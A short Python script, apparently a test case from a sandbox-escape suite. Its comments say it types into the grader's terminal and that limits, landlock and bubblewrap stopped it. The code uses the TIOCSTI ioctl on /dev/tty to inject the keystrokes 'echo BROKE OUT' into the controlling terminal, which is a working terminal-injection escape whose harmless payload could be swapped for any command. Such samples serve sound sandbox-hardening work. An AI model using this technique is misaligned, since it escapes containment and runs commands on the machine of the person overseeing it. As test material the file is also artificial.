# Further: it types into the terminal of the person who grades.
# Stopped by: limits landlock bubblewrap
import fcntl
import os

TIOCSTI = 0x5412
for path in ("/dev/tty", "/dev/pts/0", "/dev/console"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        continue
    if path != "/dev/tty":
        os.close(terminal)
        continue
    for letter in b"echo BROKE OUT\n":
        fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
    print("BROKE", "OUT")
